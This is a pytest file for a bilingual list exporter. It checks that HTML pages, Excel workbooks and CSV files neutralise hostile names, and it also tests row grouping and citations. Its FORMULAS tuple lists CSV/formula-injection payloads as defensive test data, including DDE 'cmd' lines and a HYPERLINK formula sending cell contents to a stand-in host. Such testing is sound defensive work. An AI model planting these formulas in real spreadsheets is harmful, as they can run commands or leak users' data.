"""Lists: rows with their documents and lines; nothing that a name holds runs in page, workbook or CSV."""

import csv
import io
import re
from html.parser import HTMLParser

import openpyxl
import pytest

from chaingraph.errors import QueryError
from chaingraph.graphs.naming import known_labels
from chaingraph.names import labels
from chaingraph.packs.listing import called, listing, shown_rows
from chaingraph.packs.reading import Line
from chaingraph.packs.words import heading
from chaingraph.packs.workbook import workbook
from chaingraph.packs.writing import _csv
from chaingraph.store import build
from chaingraph.views.bilingual import Both
from chaingraph.views.lists import Cell, Column, Listing, Row, pack_page
from view_fixture import HOSTILE as NAMES

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "=cmd|'/C calc'!A1",
    "+cmd|'/C calc'!A1",
    '-2+3+cmd|"/C calc"!A1',
    "＝1+1",
    "＠SUM(A1)",
    "\u200b=1+1",
    "\u202e=1+1",
    '=WEBSERVICE("http://example.invalid")',
    '";=1+1;"',
    "http://example.invalid/",
    "internal:Sheet1!A1",
    "{=1+1}",
    "_x003D_1+1",
)
HOSTILE = (*NAMES, *FORMULAS)
BEGINS = tuple("=+-@\t\r＝＋－＠")


def hostile_listing(lang: str = "zh") -> Listing:
    return Listing(
        key="hostile",
        title=Both(HOSTILE[0], HOSTILE[1]),
        columns=(
            Column(key="a", title=Both(HOSTILE[5], HOSTILE[6]), about=HOSTILE[5]),
            Column(key="b", title=Both("=A1", "=A1")),
        ),
        rows=tuple(
            Row(
                cells=(Cell(text=Both(text, text[::-1])), Cell(text=Both(text, text))),
                cite=Both(text, text),
                full=Both(text, text),
                records=(text,),
            )
            for text in HOSTILE
        ),
        note=Both(HOSTILE[2], HOSTILE[3]),
    )


class Elements(HTMLParser):
    """What a page holds, as a browser would see it."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.links += [value for name, value in attrs if name in ("href", "src", "srcdoc")]


def page_of(*lists: Listing) -> str:
    part = {"key": "p", "title": Both("甲", "A"), "notes": (), "maps": (), "chains": (), "lists": lists}
    return pack_page(title=Both(HOSTILE[0], HOSTILE[20]), under=Both(HOSTILE[1], HOSTILE[1]), parts=[part])


def test_there_are_enough_hostile_names():
    assert len(set(HOSTILE)) >= 40


def test_no_hostile_name_becomes_an_element_or_a_handler():
    found = Elements()
    found.feed(page_of(hostile_listing()))
    assert found.tags.count("script") == 5
    assert not {"img", "svg", "iframe", "link", "form", "object", "embed", "base"} & set(found.tags)
    assert found.tags.count("meta") == 4
    assert found.handlers == []
    assert found.links == ["#main"]
    assert found.tags.count("tr") == 1 + len(HOSTILE)


def test_template_braces_are_not_run():
    assert "{{ 7*7 }}" in page_of(hostile_listing())
    assert "49" not in re.sub(
        r"<script>.*?</script>|<style>.*?</style>|sha256-\S+|alert\(49\)", "", page_of(hostile_listing()), flags=re.S
    )


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_workbook_holds_texts_only(lang):
    """No cell of it is a formula, an error or a link, whatever the names begin with."""
    book = openpyxl.load_workbook(io.BytesIO(workbook(Both("=甲", "=A"), [], [hostile_listing()], lang=lang)))
    sheet = book.worksheets[1]
    cells = [cell for one in book.worksheets for row in one.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)
    assert sheet.max_row == 1 + len(HOSTILE)
    begins = [cell for cell in cells if str(cell.value).startswith(BEGINS)]
    assert len(begins) > 20
    assert all(cell.quotePrefix for cell in begins)


def test_a_workbook_is_the_same_every_time():
    lists = [hostile_listing()]
    assert workbook(Both("甲", "A"), [], lists) == workbook(Both("甲", "A"), [], lists)


def test_sheets_of_one_title_get_names_of_their_own():
    one = hostile_listing()
    book = openpyxl.load_workbook(io.BytesIO(workbook(Both("甲", "A"), [], [one, one, one])))
    names = [name.lower() for name in book.sheetnames]
    assert len(set(names)) == 4
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in names)


def test_an_amount_is_a_number_with_its_unit_and_others_are_text():
    cells = (
        Cell(text=Both("1000亿元", "100 billion yuan"), number=1e11, unit="unit:CCY_CNY"),
        Cell(text=Both("30%", "30%"), number=0.3, unit="unit:FRACTION"),
        Cell(text=Both("10万吨", "100,000 t"), number=1e5, unit="unit:TONNE"),
        Cell(text=Both("3", "3"), number=3.0),
    )
    columns = tuple(Column(key=key, title=Both(key, key)) for key in "abcd")
    row = Row(cells=cells, cite=Both("", ""), full=Both("", ""), records=())
    one = Listing(key="a", title=Both("甲", "A"), columns=columns, rows=(row,))
    sheet = openpyxl.load_workbook(io.BytesIO(workbook(Both("甲", "A"), [], [one]))).worksheets[1]
    assert [sheet.cell(2, place).value for place in (1, 2, 3, 4)] == [1e11, 0.3, "10万吨", 3]
    assert sheet.cell(2, 1).number_format == '#,##0"元"'
    assert "%" in sheet.cell(2, 2).number_format


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_no_cell_of_a_csv_is_a_formula(lang):
    rows = list(csv.reader(io.StringIO(_csv(hostile_listing(), lang))))
    assert len(rows) == 1 + len(HOSTILE)
    assert [cell for row in rows for cell in row if cell.startswith(BEGINS)] == []
    assert any(cell.startswith("'=") for row in rows for cell in row)


# ---- From answers to lists


def line(**given) -> Line:
    return Line(**{"where": "x.pack#line=1", "verb": "ask", "name": "x", "given": {}, **given})


ANSWER = (
    {"enterprise": "enterprise:alpha-cell", "product": "product:cell", "source": "data:mini/capabilities.csv#row=2"},
    {"enterprise": "enterprise:alpha-cell", "product": "product:anode", "source": "data:mini/capabilities.csv#row=3"},
    {"enterprise": "enterprise:beta-cathode", "product": None, "source": "data:mini/capabilities.csv#row=4"},
)
COLUMNS = {"enterprise": "who", "product": "what", "source": "source row"}


def test_rows_are_put_together_by_a_column():
    _, rows = shown_rows(line(by=("enterprise",)), ANSWER, list(COLUMNS))
    assert [row["enterprise"] for row in rows] == [["enterprise:alpha-cell"], ["enterprise:beta-cathode"]]
    assert rows[0]["product"] == ["product:cell", "product:anode"]
    assert rows[0]["source"] == ["data:mini/capabilities.csv#row=2", "data:mini/capabilities.csv#row=3"]


def test_rows_are_put_together_when_alike_in_several_columns():
    answer = [{"a": "1", "b": two, "c": three} for two, three in (("x", "p"), ("y", "q"), ("x", "r"))]
    _, rows = shown_rows(line(by=("a", "b")), answer, ["a", "b", "c"])
    assert [(row["a"], row["b"], row["c"]) for row in rows] == [(["1"], ["x"], ["p", "r"]), (["1"], ["y"], ["q"])]


@pytest.mark.parametrize(
    ("row", "zh"),
    [
        ({"verb": "supplement", "state": "unknown"}, "先核实，确缺再补链"),
        ({"verb": "supplement", "state": "missing"}, "补链"),
        ({"verb": "extend", "gap": "unknown"}, "先核实，确缺再延链"),
        ({"verb": "extend", "cause": "unused"}, "先核实，再延链"),
        ({"valid_until": "2024"}, "2023"),
        ({"valid_until": "2024-03-01"}, "2024-02-29"),
        ({"scope": "生产用材 (materials used in production)"}, "生产用材"),
        ({"scope": "甲 (乙)"}, "甲 (乙)"),
        ({"need_possible": True, "customers": ["enterprise:alpha-cell"]}, "可能"),
        ({"need_possible": False, "customers": ["enterprise:alpha-cell"]}, "确定"),
    ],
)
def test_what_a_cell_says_to_a_planner(mini, row, zh):
    made = listing(mini, "x", Both("甲", "A"), line(show=tuple(row)[:1]), [row], dict.fromkeys(row, ""))
    assert made.rows[0].cells[0].text.zh == zh


def test_a_candidate_of_whom_no_place_is_told_says_so_beside_one_that_has_a_place(mini):
    answer = [
        {"subject": "product:cell", "enterprise": "enterprise:alpha-cell", "places": ["region:990100"]},
        {"subject": "product:cell", "enterprise": "enterprise:beta-cathode", "places": []},
    ]
    kept = line(by=("subject",), show=("enterprise", "places"))
    made = listing(mini, "x", Both("甲", "A"), kept, answer, dict.fromkeys(answer[0], ""))
    assert made.rows[0].cells[0].text == Both(
        "甲电芯、乙正极（所在地不详）", "Alpha Cell, Beta Cathode (place not told)"
    )


def test_what_documents_do_not_name_is_marked_in_lists_and_graphs(write):
    """The name of the table is kept in the store; a reader of a list or a page sees that nobody is named."""
    table = (
        "id,type,label_zh,label_en,unnamed,source,line\n"
        "enterprise:core,cg:Enterprise,骨干企业,core firms,true,document:plan,1\n"
        "enterprise:one,cg:Enterprise,甲厂,Works A,,document:plan,2\n"
    )
    store = build([write({"enterprises": table})])
    names = called(store, ["enterprise:core", "enterprise:one"])
    assert names == {
        "enterprise:core": ("骨干企业（未具名）", "core firms (not named)"),
        "enterprise:one": ("甲厂", "Works A"),
    }
    assert known_labels(store, names) == names
    assert labels(store, ["enterprise:core"]) == {"enterprise:core": ("骨干企业", "core firms")}


def test_columns_of_a_sheet_are_as_wide_as_their_texts_and_those_to_be_filled_in_are_wide():
    row = Row(
        cells=tuple(Cell(text=Both(text, text)) for text in ("补链", "甲" * 60, "")),
        cite=Both("", ""),
        full=Both("", ""),
        records=(),
    )
    columns = tuple(Column(key=key, title=Both(key, key)) for key in "abc")
    one = Listing(key="a", title=Both("甲", "A"), columns=columns, rows=(row,))
    sheet = openpyxl.load_workbook(io.BytesIO(workbook(Both("甲", "A"), [], [one]))).worksheets[1]
    narrow, widest, blank = (sheet.column_dimensions[letter].width for letter in "ABC")
    assert narrow < blank < widest < 42
    assert sheet.freeze_panes == "B2"


def test_only_rows_with_a_value_are_kept():
    _, rows = shown_rows(line(only={"product": frozenset({"product:anode"})}), ANSWER, list(COLUMNS))
    assert [row["source"] for row in rows] == ["data:mini/capabilities.csv#row=3"]


def test_a_column_that_is_not_there_is_refused():
    with pytest.raises(QueryError, match=re.escape("x.pack#line=1 maker: no such column; there are: enterprise")):
        shown_rows(line(show=("maker",)), ANSWER, list(COLUMNS))


def test_every_row_has_names_documents_and_lines(mini):
    """capabilities.csv row 2 of the mini data stands on document:mini-directory."""
    made = listing(mini, "makers", Both("企业", "Makers"), line(by=("enterprise",)), ANSWER, COLUMNS)
    first = made.rows[0]
    assert first.cells[0].text == Both("甲电芯", "Alpha Cell")
    assert first.cells[1].text.zh == "电芯、负极材料"
    assert first.records == ("data:mini/capabilities.csv#row=2", "data:mini/capabilities.csv#row=3")
    assert all("行" in row.cite.zh and "line" in row.cite.en for row in made.rows)
    assert "数据表“生产能力”（mini/capabilities.csv）第2行" in first.full.zh
    assert made.documents == ("document:mini-directory",)


def test_a_column_that_is_empty_throughout_is_left_out_unless_it_is_to_be_filled_in(mini):
    made = listing(mini, "x", Both("甲", "A"), line(), ANSWER[2:], COLUMNS)
    assert [column.key for column in made.columns] == ["enterprise"]
    kept = listing(mini, "x", Both("甲", "A"), line(keep=("product",)), ANSWER[2:], COLUMNS)
    assert [column.key for column in kept.columns] == ["enterprise", "product"]


def test_a_list_without_rows_says_that_this_proves_nothing():
    text = page_of(Listing(key="x", title=Both("甲", "A"), columns=(), rows=()))
    assert "没有记载不等于没有" in text


def test_headings_are_in_both_languages():
    assert heading("undertaken_by") == Both("承担单位", "undertaken by")
    assert heading("of") == Both("对象范围", "set for")
